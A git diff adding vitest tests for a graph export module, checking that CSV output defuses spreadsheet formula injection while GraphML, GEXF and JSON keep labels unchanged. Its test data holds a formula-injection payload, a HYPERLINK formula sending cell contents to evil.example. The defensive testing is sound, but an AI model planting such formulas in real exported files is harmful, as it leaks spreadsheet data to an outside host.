@@ -3,6 +3,7 @@ import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { strFromU8, unzipSync } from 'fflate';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { edgesCsv, nodesCsv } from '../../src/export/csv.js';
+import { exportFile } from '../../src/export/formats.js';
 import { toGexf } from '../../src/export/gexf.js';
 import { toGraphml } from '../../src/export/graphml.js';
 import type { ExportGraph } from '../../src/export/subgraph.js';
@@ -179,8 +180,38 @@ describe('writers', () => {
   it('CSV quotes a field with a comma, quote or line break, and it reads back unchanged', () => {
     const rows = parseCsv(nodesCsv(graph));
     expect(rows[1]).toEqual(['x:1', 'PERSON', hostile, '0']);
-    expect(rows[2]).toEqual(['x:"2"&<', 'TOPIC', '=1+1', '']);
+    expect(rows[2]![0]).toBe('x:"2"&<');
     expect(JSON.parse(parseCsv(edgesCsv(graph))[1]![4]!)).toEqual({ note: hostile, n: 1 });
+  });
+
+  // OWASP "CSV injection": a spreadsheet runs a cell that starts with one of these as a formula.
+  const formulas = ['=1+1', '=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+  const withFormulas: ExportGraph = {
+    nodes: formulas.map((label, i) => ({ id: `x:${i}`, type: 'TOPIC', label, distance: i })),
+    edges: [{ id: '=e', type: 'ABOUT', source: 'x:0', target: 'x:1', properties: { note: '=1+1' } }],
+    truncated: false,
+  };
+
+  it.each(formulas)('CSV neutralises a cell starting %j: a quote in front, the cell quoted, the rest unchanged', (label) => {
+    const text = nodesCsv(withFormulas);
+    expect(text).toContain(`,"'${label.replace(/"/g, '""')}",`);
+    expect(parseCsv(text).find((r) => r[2]!.endsWith(label))![2]).toBe(`'${label}`);
+  });
+
+  it('CSV neutralises every column, ids included, and leaves harmless cells and numbers as they are', () => {
+    const edges = parseCsv(edgesCsv(withFormulas));
+    expect(edges[1]![0]).toBe("'=e");
+    expect(parseCsv(nodesCsv(withFormulas))[1]).toEqual(['x:0', 'TOPIC', "'=1+1", '0']);
+    expect(parseCsv(nodesCsv(graph))[1]).toEqual(['x:1', 'PERSON', hostile, '0']);
+  });
+
+  it('GraphML, GEXF and JSON keep formula-like text exactly', async () => {
+    const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', trimValues: false, parseTagValue: false, htmlEntities: true, isArray: (name) => ['node', 'data'].includes(name) });
+    const graphml = xml.parse(toGraphml(withFormulas)).graphml.graph;
+    expect(graphml.node.map((n: any) => n.data.find((d: any) => d['@key'] === 'node_label')['#text'])).toEqual(formulas);
+    const gexf = xml.parse(toGexf(withFormulas)).gexf.graph;
+    expect(gexf.nodes.node.map((n: any) => n['@label'])).toEqual(formulas);
+    expect(JSON.parse(exportFile(withFormulas, 'json').body as string)).toEqual(withFormulas);
   });
 
   it('GraphML and GEXF stay well-formed XML whatever the labels hold', () => {
